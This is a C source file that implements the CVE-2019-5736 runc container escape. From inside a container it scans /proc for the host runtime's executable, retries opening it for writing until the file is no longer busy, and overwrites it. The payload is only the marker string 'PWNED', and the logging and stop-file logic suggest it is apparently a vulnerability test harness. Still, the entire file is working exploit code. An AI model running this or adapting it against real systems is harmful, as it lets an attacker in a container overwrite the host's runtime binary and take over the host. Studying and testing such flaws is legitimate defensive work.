// Waits inside a container for a process whose executable is not the container's, and writes to that executable
// (CVE-2019-5736). Each catch and each write is a line of the log; ends once the file STOP exists.
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static const char payload[] = "PWNED";

static void write_to(int executable, FILE *log)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", executable);

    // While the executable runs, opening it for writing is ETXTBSY: what is caught is kept until it does not.
    for (int tries = 0; tries < 20000; tries++) {
        int fd = open(path, O_WRONLY);
        if (fd >= 0) {
            ssize_t written = write(fd, payload, sizeof payload - 1);
            fprintf(log, written > 0 ? "wrote\n" : "refused write: %s\n", strerror(errno));
            close(fd);
            return;
        }

        if (errno != ETXTBSY) {
            fprintf(log, "refused open: %s\n", strerror(errno));
            return;
        }

        usleep(100);
    }

    fprintf(log, "busy\n");
}

static void look_at(const char *pid, FILE *log)
{
    char path[PATH_MAX], target[PATH_MAX] = "";
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        return;
    }

    // What was opened counts, not what the link named a moment ago: the process may have executed the container's own
    // program in between.
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    if (readlink(path, target, sizeof target - 1) > 0 && strncmp(target, "/bin/", 5) != 0) {
        fprintf(log, "caught %s\n", target);
        write_to(fd, log);
        fflush(log);
    }

    close(fd);
}

int main(int argc, char **argv)
{
    if (argc != 3) {
        fprintf(stderr, "usage: overwrite LOG STOP\n");
        return 2;
    }

    FILE *log = fopen(argv[1], "w");
    fprintf(log, "ready\n");
    fflush(log);
    while (access(argv[2], F_OK) != 0) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(proc)) != NULL;) {
            if (isdigit((unsigned char)entry->d_name[0])) {
                look_at(entry->d_name, log);
            }
        }

        closedir(proc);
    }

    return 0;
}
